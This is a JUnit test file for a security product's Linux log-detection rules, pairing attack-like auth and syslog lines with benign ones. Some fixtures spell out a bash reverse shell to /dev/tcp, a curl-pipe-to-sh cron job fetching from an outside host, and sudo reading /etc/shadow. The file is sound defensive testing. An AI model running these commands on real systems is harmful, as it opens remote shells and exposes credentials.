package io.cybershield.shield.gateway.triage.rules;

import org.junit.jupiter.api.Test;

import java.util.ArrayList;
import java.util.List;
import java.util.Set;

import static io.cybershield.shield.gateway.triage.logs.LogSource.LINUX_AUTH;
import static io.cybershield.shield.gateway.triage.logs.LogSource.LINUX_SYSLOG;
import static io.cybershield.shield.gateway.triage.rules.ShippedRules.fired;
import static io.cybershield.shield.gateway.triage.rules.ShippedRules.firedAlone;
import static org.assertj.core.api.Assertions.assertThat;

/** Linux auth and syslog rules (RFC 3164 and RFC 5424 headers). */
class LinuxRulesTest {

  @Test
  void sshBruteForceNeedsFiveFailuresFromOneAddress() {
    assertThat(firedAlone(LINUX_AUTH,
        "Dec  1 10:00:01 bastion sshd[811]: Failed password for alice from 203.0.113.9 port 51122 ssh2")).isEmpty();
    List<String> lines = new ArrayList<>();
    for (int i = 0; i < 6; i++) {
      lines.add("Dec  1 10:00:0" + i + " bastion sshd[81" + i + "]: Failed password for root from 45.66.77.88 port "
          + (40000 + i) + " ssh2");
    }
    assertThat(fired(LINUX_AUTH, lines.toArray(String[]::new)))
        .allMatch(ids -> ids.contains("shield-linux-cred-001"));
  }

  @Test
  void sprayingAcrossUserNames() {
    List<Set<String>> spray = fired(LINUX_AUTH,
        "Dec  1 10:01:01 bastion sshd[901]: Invalid user oracle from 45.66.77.99 port 1000",
        "Dec  1 10:01:02 bastion sshd[902]: Invalid user postgres from 45.66.77.99 port 1001",
        "Dec  1 10:01:03 bastion sshd[903]: Invalid user admin from 45.66.77.99 port 1002",
        "Dec  1 10:01:04 bastion sshd[904]: Invalid user test from 45.66.77.99 port 1003");
    assertThat(spray).allMatch(ids -> ids.contains("shield-linux-cred-002"));
  }

  @Test
  void reverseShellAndCurlPipeShInAnySyslogLine() {
    assertThat(firedAlone(LINUX_SYSLOG, "<13>1 2026-12-01T10:02:00Z web01 bash 4242 - - HISTORY: PID=4242 UID=33 "
        + "bash -i >& /dev/tcp/198.51.100.4/4444 0>&1")).contains("shield-linux-exec-001");
    assertThat(firedAlone(LINUX_SYSLOG, "Dec  1 10:03:00 web01 CRON[5151]: (www-data) CMD (curl -fsSL "
        + "http://198.51.100.4/x.sh | sh)")).contains("shield-linux-persist-004");
  }

  @Test
  void sudoReadingShadowAndAUserAddedWithUidZero() {
    assertThat(firedAlone(LINUX_AUTH, "Dec  1 10:04:00 db01 sudo:    bob : TTY=pts/1 ; PWD=/home/bob ; USER=root ; "
        + "COMMAND=/usr/bin/cat /etc/shadow")).contains("shield-linux-cred-003");
    assertThat(firedAlone(LINUX_AUTH, "Dec  1 10:05:00 db01 useradd[777]: new user: name=sysadm, UID=0, GID=0, "
        + "home=/root, shell=/bin/bash")).contains("shield-linux-persist-001");
  }

  @Test
  void routineAuthAndSyslogLinesAreNotFlagged() {
    List<Set<String>> benign = fired(LINUX_AUTH,
        "Dec  1 11:00:00 bastion sshd[1201]: Accepted publickey for alice from 10.20.1.5 port 52000 ssh2: ED25519",
        "Dec  1 11:00:01 bastion sshd[1201]: pam_unix(sshd:session): session opened for user alice(uid=1000)",
        "Dec  1 11:00:05 bastion sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; "
            + "COMMAND=/usr/bin/systemctl restart nginx",
        "Dec  1 11:01:00 bastion sshd[1300]: Failed password for bob from 10.20.1.9 port 52011 ssh2",
        "Dec  1 11:02:00 db01 useradd[888]: new user: name=jdoe, UID=1004, GID=1004, home=/home/jdoe, "
            + "shell=/bin/bash");
    assertThat(benign).allMatch(Set::isEmpty);
    List<Set<String>> syslog = fired(LINUX_SYSLOG,
        "Dec  1 11:05:00 backup01 CRON[999]: (root) CMD (/usr/bin/restic backup /srv --tag nightly)",
        "Dec  1 11:06:00 backup01 rsync[1000]: sent 1024 bytes  received 2048 bytes  total size 4096",
        "Dec  1 11:07:00 app03 systemd[1]: Started Daily apt upgrade and clean activities.");
    assertThat(syslog).allMatch(Set::isEmpty);
  }

  // ---------------------------------------------------------------- round 2 (lines written here)

  @Test
  void uidZeroSudoersTeeAtJobAndTmpfsExecution() {
    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.LINUX_AUTH, "Feb  9 02:10:01 db-4 usermod[811]: change user 'lp' UID from '7' to '0'"))
        .contains("shield-linux-persist-011");
    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.LINUX_AUTH, "Feb  9 02:11:01 db-4 sudo[812]:   ops : TTY=pts/0 ; PWD=/home/ops ; "
        + "USER=root ; COMMAND=/bin/cp /tmp/x /etc/sudoers.d/zz")).contains("shield-linux-privesc-007");
    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.LINUX_SYSLOG, "Feb  9 02:12:01 app-7 atd[913]: Starting job 12 (a0000c019) for user "
        + "'nginx' (101)")).contains("shield-linux-persist-012");
    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.LINUX_SYSLOG, "Feb  9 02:14:55 app-7 snoopy[3321]: [uid:48 sid:2210 tty:(none) "
        + "cwd:/var/tmp filename:/dev/shm/enum login:apache]: /dev/shm/enum -q")).contains("shield-linux-exec-004");
  }

  @Test
  void visudoOrdinaryAtJobsAndSnoopyAdminCommandsStayQuiet() {
    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.LINUX_AUTH, "Feb  9 02:11:05 db-4 sudo[812]:   ops : TTY=pts/0 ; PWD=/home/ops ; "
        + "USER=root ; COMMAND=/usr/sbin/visudo -f /etc/sudoers.d/ops")).isEmpty();
    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.LINUX_SYSLOG, "Feb  9 02:12:05 app-7 atd[914]: Starting job 13 (a0000d019) for user "
        + "'jsmith' (1002)")).isEmpty();
    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.LINUX_SYSLOG, "Feb  9 02:15:00 app-7 snoopy[3330]: [uid:1002 sid:2300 tty:/dev/pts/1 "
        + "cwd:/home/jsmith filename:/usr/bin/systemctl login:jsmith]: systemctl status nginx")).isEmpty();
  }

  @Test
  void openSsh98LogsAuthenticationAsSshdSession() {
    org.assertj.core.api.Assertions.assertThat(ShippedRules.fired(io.cybershield.shield.gateway.triage.logs.LogSource.LINUX_AUTH, ShippedRules.times(6, "Jan 21 08:00:01 bastion-2 sshd-session[7001]: Failed "
        + "password for admin from 203.0.113.120 port 40022 ssh2"))).allMatch(ids -> ids.contains("shield-linux-cred-001"));
  }

  @Test
  void passwordLoginToAServiceAccountFromTheInternetButNotFromInside() {
    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.LINUX_AUTH, "Jan 21 08:10:00 edge-1 sshd[7100]: Accepted password for backup from "
        + "203.0.113.121 port 50100 ssh2")).contains("shield-linux-access-004");
    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.LINUX_AUTH, "Jan 21 08:10:05 edge-1 sshd[7101]: Accepted password for backup from "
        + "10.2.0.15 port 50101 ssh2")).doesNotContain("shield-linux-access-004");
    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.LINUX_AUTH, "Jan 21 08:10:09 edge-1 sshd[7102]: Accepted publickey for svc_sync from "
        + "203.0.113.122 port 50102 ssh2: ED25519 SHA256:abc")).doesNotContain("shield-linux-access-004");
  }

  @Test
  void manyDifferentAccountsFailingOnOneServerFromManyAddressesIsCredentialStuffing() {
    String[] users = {"k.ito", "l.meyer", "s.costa", "d.ng", "y.haas"};
    String[] lines = new String[users.length];
    for (int i = 0; i < users.length; i++) {
      lines[i] = "2026-03-05T04:00:0" + i + ".000000+00:00 sftp-07 sshd[700" + i + "]: Failed password for " + users[i]
          + " from 203.0.113." + (20 + i) + " port 4100" + i + " ssh2";
    }
    assertThat(fired(LINUX_AUTH, lines)).allMatch(ids -> ids.contains("shield-linux-cred-020"));
    assertThat(fired(LINUX_AUTH, java.util.Arrays.copyOf(lines, 2)))
        .noneMatch(ids -> ids.contains("shield-linux-cred-020"));
  }

  @Test
  void snifferSecondSshdKnockdArpChangesAndStoppedAuditAgent() {
    io.cybershield.shield.gateway.triage.logs.LogSource sys = io.cybershield.shield.gateway.triage.logs.LogSource.LINUX_SYSLOG;
    assertThat(firedAlone(sys, "Mar  6 02:00:00 web-4 kernel: [811.2] device ens160 entered promiscuous mode"))
        .contains("shield-linux-disc-020");
    assertThat(firedAlone(sys, "Mar  6 02:00:01 k8s-n2 kernel: [812.0] device veth3a9c1f2 entered promiscuous mode"))
        .doesNotContain("shield-linux-disc-020");
    assertThat(firedAlone(sys, "Mar  6 02:01:00 jump-2 sshd[611]: Server listening on :: port 4422."))
        .contains("shield-linux-persist-020");
    assertThat(firedAlone(sys, "Mar  6 02:01:00 jump-2 sshd[611]: Server listening on 0.0.0.0 port 22."))
        .doesNotContain("shield-linux-persist-020");
    assertThat(firedAlone(sys, "Mar  6 02:02:00 jump-2 knockd[90]: 198.51.100.77: sshopen: Stage 3"))
        .contains("shield-linux-c2-020");
    assertThat(firedAlone(sys, "Mar  6 02:03:00 mon-2 arpwatch: changed ethernet address 10.0.0.1 0:50:56:aa:bb:cc "
        + "(0:1b:21:11:22:33) eth1")).contains("shield-linux-coll-020");
    assertThat(firedAlone(sys, "Mar  6 02:04:00 db-3 systemd[1]: Stopping auditd.service - Security Auditing Service..."))
        .contains("shield-linux-evasion-020");
    assertThat(firedAlone(sys, "Mar  6 02:04:00 db-3 systemd[1]: Stopping nginx.service - A high performance web server..."))
        .isEmpty();
  }

  @Test
  void rootSessionOpenedByANamelessSystemUid() {
    assertThat(firedAlone(LINUX_AUTH, "Mar  6 03:00:00 app-9 su[3001]: pam_unix(su:session): session opened for user "
        + "root(uid=0) by (uid=48)")).contains("shield-linux-privesc-006");
    assertThat(firedAlone(LINUX_AUTH, "Mar  6 03:00:00 app-9 su[3002]: pam_unix(su:session): session opened for user "
        + "root(uid=0) by ops(uid=1001)")).doesNotContain("shield-linux-privesc-006");
  }
}
